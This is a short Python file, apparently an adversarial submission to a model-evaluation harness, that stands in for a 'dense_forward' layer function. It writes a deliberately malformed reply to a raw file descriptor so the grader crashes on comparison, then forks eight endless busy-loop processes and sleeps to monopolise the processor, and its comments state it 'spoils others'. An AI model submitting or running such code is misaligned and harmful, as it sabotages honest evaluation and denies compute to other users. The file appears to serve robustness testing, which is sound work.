"""Sends a well-formed reply whose number is an array, so that whoever compares it meets an error,
and stays behind to use the processor."""
# attacks: dense_forward
# spoils: others
# outcome: crashed
# %% dense_forward
import json
import os
import struct
import time


def dense_forward(x, W, b):
    tree = {"dict": [["number", {"array": 0}], ["outputs", {"list": []}]]}
    header = json.dumps([tree, [["|u1", [2], "C", True]]]).encode()
    os.write(4, struct.pack("<II", len(header), 2) + header + b"\0\0")
    for _ in range(8):
        if os.fork() == 0:
            while True:
                pass
    time.sleep(10_000)
